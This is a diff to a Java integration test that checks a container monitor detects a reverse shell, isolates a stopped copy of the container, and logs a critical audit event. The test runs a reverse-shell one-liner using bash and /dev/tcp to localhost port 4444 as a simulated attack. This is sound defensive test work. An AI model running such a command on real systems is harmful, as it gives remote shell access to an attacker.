@@ -11,6 +11,7 @@ import dev.coi.api.CommandResult;
 import dev.coi.api.ExecOptions;
 import dev.coi.kernel.cli.CliRun;
 import dev.coi.kernel.cli.CoiTerminal;
+import dev.coi.kernel.incus.IncusException;
 import dev.coi.kernel.incus.Instance;
 import java.io.IOException;
 import java.nio.file.Files;
@@ -78,10 +79,13 @@ class MonitorIT {
         assertTrue(bed.container(1).map(Instance::isRunning).orElse(false));
 
         Instant attacked = Instant.now();
-        CommandResult attack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f " + LISTENER
-                + " </dev/null >/dev/null 2>&1; sleep 1; setsid -f bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"
-                + " </dev/null >/dev/null 2>&1; echo started"), AS_CODE);
-        assertEquals(0, attack.exitCode(), attack::toString);
+        try {
+            bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f " + LISTENER
+                    + " </dev/null >/dev/null 2>&1; sleep 1; setsid -f bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444"
+                    + " 0>&1' </dev/null >/dev/null 2>&1; sleep 2"), AS_CODE);
+        } catch (IncusException e) {
+            // the shell that starts the attack is one itself: it may be stopped with the container before it ends
+        }
 
         await(RESPONSE, () -> bed.container(1).isEmpty(), () -> "the container still runs\n" + keeperLog());
         System.out.println("[monitor] reverse shell to container gone: "
@@ -91,6 +95,9 @@ class MonitorIT {
         assertEquals(1, copies.size(), this::keeperLog);
         assertTrue(copies.get(0).isStopped());
         assertEquals("none", copies.get(0).expandedDevices().get("eth0").get("type"), "the copy has no network");
+        assertEquals("none", copies.get(0).expandedDevices().get("workspace").get("type"), "nor the workspace");
+        assertTrue(copies.get(0).expandedDevices().values().stream().allMatch(device -> "none".equals(device.get("type"))
+                || "/".equals(device.get("path"))), () -> "no host folder: " + copies.get(0).expandedDevices());
         JsonNode event = new ObjectMapper().readTree(read(audit).lines().findFirst().orElseThrow());
         assertEquals("reverse-shell", event.path("detector").asText(), event::toString);
         assertEquals("critical", event.path("level").asText());
